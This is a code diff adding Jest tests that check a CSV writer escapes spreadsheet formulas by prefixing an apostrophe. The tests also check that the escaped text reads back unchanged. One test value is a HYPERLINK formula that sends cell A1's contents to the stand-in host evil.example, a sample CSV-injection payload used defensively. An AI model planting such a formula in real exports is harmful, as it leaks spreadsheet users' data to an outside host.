@@ -1,5 +1,7 @@
 import { describe, expect, test } from '@jest/globals';
+import fc from 'fast-check';
 import { csvHeader, csvOf, readCsv } from './csv.js';
+import { guarded, unguarded } from './formulas.js';
 import { readJson } from './json.js';
 import { toLom } from './lom.js';
 import type { FileRecord } from './record.js';
@@ -59,6 +61,31 @@ describe('what is written is read again', () => {
     const given = [undecided, ...RECORDS.slice(1)];
     expect(records(readJson(given.map((one) => JSON.stringify(toActivity(one, 'urn:uuid:1'))).join('\n')))).toEqual(
       given,
+    );
+  });
+});
+
+describe('CSV that a spreadsheet program opens', () => {
+  const FORMULAS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n'];
+  const linked = `=HYPERLINK("https://evil.example?" & A1; 'x')`;
+
+  test('runs no cell: an apostrophe stands before every formula, also within quotes', () => {
+    const written = csvOf({ ...RECORDS[2]!, identifier: '-2+3', title: linked, description: '@SUM(A1)', mappings: [] });
+
+    expect(written).toBe(`'-2+3,"'=HYPERLINK(""https://evil.example?"" & A1; 'x')",,'@SUM(A1),,,\n`);
+    for (const start of FORMULAS) expect(csvOf({ ...RECORDS[2]!, title: `${start}x` })).toMatch(/^c-3,"?'/);
+  });
+
+  test('and is read as the texts that were written, those that begin with an apostrophe too', () => {
+    const texts = FORMULAS.slice(0, 8).flatMap((start) => [start, `${start}1`, `'${start}1`, `''${start}1`]);
+    for (const text of [...texts, linked, "'", "''", "'tis", `'"=1`, 'l’=']) {
+      const record = { ...RECORDS[0]!, identifier: text, title: text, description: text };
+      expect(records(readCsv(csvHeader + csvOf(record)))).toEqual([record]);
+    }
+    fc.assert(
+      fc.property(fc.string(), fc.stringMatching(/^'*[=+\-@\t\r]?.*$/), (one, other) =>
+        [one, other].every((text) => unguarded(guarded(text)) === text && !FORMULAS.includes(guarded(text).charAt(0))),
+      ),
     );
   });
 });
